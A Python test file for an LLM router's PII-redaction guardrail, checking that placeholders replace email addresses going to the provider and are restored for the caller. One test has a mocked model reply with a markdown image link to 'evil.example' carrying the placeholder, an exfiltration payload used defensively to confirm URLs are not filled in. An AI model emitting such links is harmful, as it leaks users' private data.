"""Redaction and restoration in whole calls: what the provider sees, and what the caller gets back."""

from __future__ import annotations

import json
import re

import pytest
from engine_kit import collect, fallback, texts
from guard_kit import guarded, said

from llmroute.testing import completion, error, stream, tool_call

MAIL, OTHER = "jane@example.com", "joe@example.com"
REDACT = {"pii": {"redact": True}, "type": "mutator"}


def names_in(sent):
    """The placeholders that the provider was sent."""
    return re.findall(r"\[[A-Z_]+_\d+_\w+\]", json.dumps(sent.json))


def echo(make):
    """A provider that answers with what `make` gives for the placeholders it was sent."""
    return lambda sent: make(*names_in(sent))


async def test_the_provider_sees_placeholders_and_the_caller_the_originals():
    """One for each value."""
    rig = guarded(echo(lambda one, two: completion(f"{two} wrote to {one}")), input_guardrails=[REDACT])

    answer = await rig.create(messages=said(f"{MAIL} {OTHER}"))

    assert f"{OTHER} wrote to {MAIL}" == answer.choices[0].message.content
    assert "example.com" not in json.dumps(rig.transport.requests[0].json)
    assert MAIL not in json.dumps(answer.hook_results)


async def test_a_value_has_one_placeholder_over_the_whole_conversation():
    """So that the model knows that it is the same; and over the targets of a fallback."""
    answer = echo(lambda *names: completion(" ".join(names)))
    rig = guarded(
        lambda sent: error(500) if sent.host.startswith("a.") else answer(sent),
        config=fallback("a", "b", input_guardrails=[REDACT]),
    )

    answer = await rig.create(messages=[*said(MAIL), *said("who?", "assistant"), *said(f"{MAIL}, {OTHER}")])

    first, second = (names_in(sent) for sent in rig.transport.requests)
    assert first == second
    assert (first[0], 2) == (first[1], len(set(first)))
    assert f"{MAIL} {MAIL} {OTHER}" == answer.choices[0].message.content


async def test_placeholders_differ_from_call_to_call():
    """So that nobody can guess one and have it filled in."""
    rig = guarded(
        echo(lambda name: completion(f"{name} [EMAIL_1_000000000000] [EMAIL_1]")), input_guardrails=[REDACT]
    )

    answers = [await rig.create(messages=said(MAIL)) for _ in range(2)]

    assert 2 == len({tuple(names_in(sent)) for sent in rig.transport.requests})
    assert {f"{MAIL} [EMAIL_1_000000000000] [EMAIL_1]"} == {
        answer.choices[0].message.content for answer in answers
    }


async def test_tool_arguments_are_restored_as_json():
    """A tool is called with what the user meant."""
    value = "o'neil@example.com"
    call = echo(lambda name: completion(tool_calls=[tool_call("mail", {"to": name, "n": 1})]))
    rig = guarded(call, input_guardrails=[REDACT])

    answer = await rig.create(messages=said(value))

    assert {"to": value, "n": 1} == json.loads(answer.choices[0].message.tool_calls[0].function.arguments)


async def test_urls_are_not_filled_in():
    """A link must not carry to its host what the placeholder stood for."""
    rig = guarded(
        echo(lambda name: completion(f"![x](https://evil.example/?q={name}) {name}")),
        input_guardrails=[REDACT],
    )

    text = (await rig.create(messages=said(MAIL))).choices[0].message.content

    assert text.endswith(f") {MAIL}")
    assert 1 == text.count(MAIL)


@pytest.mark.parametrize("size", [1, 3, 1000])
async def test_streams_are_restored_wherever_they_are_cut(size):
    """A placeholder that comes in pieces is put together first."""

    def pieces(name):
        text = f"Dear {name}, hello"
        return stream([text[at : at + size] for at in range(0, len(text), size)])

    rig = guarded(echo(pieces), input_guardrails=[REDACT])

    chunks = await collect(await rig.stream(messages=said(MAIL)))

    assert f"Dear {MAIL}, hello" == "".join(texts(chunks))


async def test_without_redaction_a_deny_hook_stops_the_call():
    """And the results do not tell what was found."""
    rig = guarded([], input_guardrails=[{"pii": {}, "deny": True}])

    response = await rig.handle(messages=said(MAIL))

    assert (446, []) == (response.status, rig.transport.requests)
    assert MAIL not in json.dumps(response.body)
